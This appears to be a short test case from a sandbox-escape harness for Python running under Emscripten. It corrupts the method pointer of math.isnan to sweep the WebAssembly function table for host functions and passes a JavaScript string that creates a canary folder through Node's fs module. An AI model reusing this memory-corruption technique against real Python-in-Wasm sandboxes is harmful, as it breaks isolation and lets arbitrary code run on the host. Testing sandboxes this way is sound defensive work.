# Goal: call the last entries of the function table, where Emscripten puts host functions.
# helper: memory
# canary: folder exit
# expect: error crashed ok timeout
import math

method = word(id(math.isnan) + 8)
text = f"process.getBuiltinModule('fs').mkdirSync('{canary['folder']}/{canary['token']}')".encode()
for index in range(14_170, 13_900, -1):
    memory[method + 4 : method + 8] = struct.pack("<I", index)
    try:
        math.isnan(text)
    except Exception:
        pass
